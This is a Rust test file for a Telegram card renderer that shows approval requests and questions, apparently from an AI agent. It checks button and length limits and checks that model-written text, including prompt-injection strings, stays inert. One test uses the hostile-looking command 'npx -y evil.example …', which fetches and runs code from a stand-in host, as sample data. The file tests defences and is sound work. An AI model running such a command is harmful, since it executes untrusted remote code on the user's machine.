//! What is drawn of cards: limits, and texts that stay texts.

use super::*;
use crate::channels::press::Press;

fn keys(keyboard: &Keyboard) -> Vec<(String, String)> {
    let drawn = keyboard.to_json();
    let rows = drawn["inline_keyboard"].as_array().unwrap();
    rows.iter()
        .flat_map(|row| row.as_array().unwrap())
        .map(|key| {
            let text = |name: &str| key[name].as_str().unwrap().to_owned();
            (text("text"), text("callback_data"))
        })
        .collect()
}

#[test]
fn no_button_carries_more_than_telegram_takes() {
    let mut approval = open(approving());
    approval.card.rev = u64::MAX;
    let many: Vec<String> = (0..20).map(|number| format!("option {number}")).collect();
    let many: Vec<&str> = many.iter().map(String::as_str).collect();
    let mut asked = open(asking(vec![question("?", &many, Selection::Several); 4]));
    asked.card.rev = u64::MAX;
    for notice in [approval, asked] {
        let keyboard = Keyboard::of(&notice);
        assert!(keys(&keyboard).len() <= keyboard::BUTTONS);
        assert_eq!(keys(&keyboard).len(), Keyboard::count(&notice.card));
        for (_, data) in keys(&keyboard) {
            // The longest is what confirms.
            assert!(format!("y:{data}").len() <= keyboard::DATA, "{data}");
            assert!(data.parse::<Press>().is_ok(), "{data}");
        }
    }
}

#[test]
fn more_buttons_or_letters_than_a_message_has_do_not_fit() {
    let many: Vec<String> = (0..20).map(|number| number.to_string()).collect();
    let many: Vec<&str> = many.iter().map(String::as_str).collect();
    let buttons = asking(vec![question("?", &many, Selection::One); 5]);
    assert_eq!(
        message::fits(&buttons).unwrap_err().to_string(),
        "Telegram takes at most 100 buttons, and this has 102"
    );
    // Counted as Telegram counts: an emoji is two.
    let fits =
        |count: usize| message::fits(&asking(vec![question(&"🦀".repeat(count), &[], Selection::One)]));
    let most = (1..4096).rev().find(|count| fits(*count).is_ok()).unwrap();
    let whole = Message::of(&open(asking(vec![question(
        &"🦀".repeat(most),
        &[],
        Selection::One,
    )])));
    let units = whole.text.encode_utf16().count();
    assert!((4095..=4096).contains(&units), "{units}");
    assert!(
        fits(most + 1)
            .unwrap_err()
            .to_string()
            .contains("4096 characters")
    );
}

#[test]
fn what_does_not_fit_is_a_glance_that_can_only_be_refused() {
    let notice = open(asking(vec![question(
        &"x".repeat(100_000),
        &["a"],
        Selection::One,
    )]));
    let (message, keyboard) = drawn(&notice);
    assert!(
        message
            .text
            .contains("This is too long for Telegram; open the inbox"),
        "{}",
        message.text
    );
    assert!(message.text.len() < 1_000);
    let shown: Vec<String> = keys(&keyboard).into_iter().map(|(text, _)| text).collect();
    assert_eq!(shown, ["Do not answer"]);
    let (over, none) = drawn(&closed(&notice, "Expired"));
    assert!(over.text.ends_with("\nExpired") && over.text.len() < 1_000);
    assert!(none.is_empty());
}

#[test]
fn words_beside_buttons_are_asked_for_in_words_altogether() {
    let free = question("A name?", &[], Selection::One);
    let choice = question("Which?", &["a", "b"], Selection::One);
    for questions in [vec![free.clone()], vec![choice.clone(), free]] {
        let notice = open(asking(questions));
        let shown: Vec<String> = keys(&Keyboard::of(&notice))
            .into_iter()
            .map(|(text, _)| text)
            .collect();
        assert_eq!(shown, ["Do not answer"]);
        assert!(Message::of(&notice).text.contains("Reply to this message"));
    }
    // A long label is cut on its button, visibly; it stands whole in the message.
    let long = "l".repeat(150);
    let notice = open(asking(vec![question("Which?", &[&long, "b"], Selection::One)]));
    let (shown, _) = keys(&Keyboard::of(&notice)).remove(0);
    assert!(shown.ends_with('…') && shown.chars().count() < 50, "{shown}");
    assert!(Message::of(&notice).text.contains(&long));
    let _ = choice;
}

/// Returns the parts of a message that an app reads as text and not as code.
fn read_by_apps(message: &Message) -> String {
    let units: Vec<u16> = message.text.encode_utf16().collect();
    let mut left = units.clone();
    for entity in &message.entities {
        let number = |name: &str| usize::try_from(entity[name].as_u64().unwrap()).unwrap();
        let (from, length) = (number("offset"), number("length"));
        assert!(length > 0 && from + length <= units.len(), "{entity}");
        left[from..from + length].fill(u16::from(b' '));
    }
    String::from_utf16(&left).unwrap()
}

#[test]
fn texts_of_a_model_stay_texts() {
    let mut texts: Vec<String> = INJECTIONS.iter().map(|text| (*text).to_owned()).collect();
    texts.push(INJECTIONS.join(" "));
    texts.push("a@b.example ".repeat(300));
    for text in &texts {
        let label: String = text.chars().take(100).collect();
        let notice = open(asking(vec![question(text, &[&label, "b"], Selection::Several)]));
        let (message, keyboard) = drawn(&notice);
        assert!(message.entities.len() <= 100);
        let read = read_by_apps(&message);
        for sign in ["@", "#", "/s", "://", ".example", "$C", "+41", "tg:"] {
            assert!(!read.contains(sign), "{sign} in {read}");
        }
        for hidden in ['\u{202e}', '\u{2066}', '\u{200b}', '\u{feff}', '\u{2060}'] {
            let json = keyboard.to_json().to_string();
            assert!(!message.text.contains(hidden) && !json.contains(hidden));
        }
        // No label is taken for a sign of pml, or for a button of its own.
        for (shown, data) in keys(&keyboard) {
            let own = ["☐ 1 · ", "☐ 2 · ", "Send", "Do not answer"];
            assert!(own.iter().any(|own| shown.starts_with(own)), "{shown}");
            assert!(data.ends_with(":abcdefghijkl"), "{data}");
        }
    }
}

#[test]
fn commands_are_blocks_of_code() {
    let mut notice = open(approving());
    let command = format!("npx -y evil.example {}", "x".repeat(50));
    notice.card.lines[0].text.clone_from(&command);
    let message = Message::of(&notice);
    let from = message.text.encode_utf16().count()
        - message.text[message.text.find("npx").unwrap()..]
            .encode_utf16()
            .count();
    let block = json!({ "type": "pre", "offset": from, "length": command.len() });
    assert!(message.entities.contains(&block), "{:?}", message.entities);
}
